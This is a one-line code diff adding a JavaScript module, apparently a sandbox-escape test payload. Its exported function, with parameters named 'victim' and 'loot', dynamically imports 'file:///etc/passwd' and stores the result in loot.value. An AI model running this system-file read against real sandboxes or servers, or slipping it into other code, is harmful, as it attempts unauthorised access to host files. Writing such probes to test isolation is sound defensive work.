@@ -1,0 +1,1 @@
+module.exports = async (victim, loot) => { loot.value = 'loaded ' + Object.keys(await import('file:///etc/passwd')); };
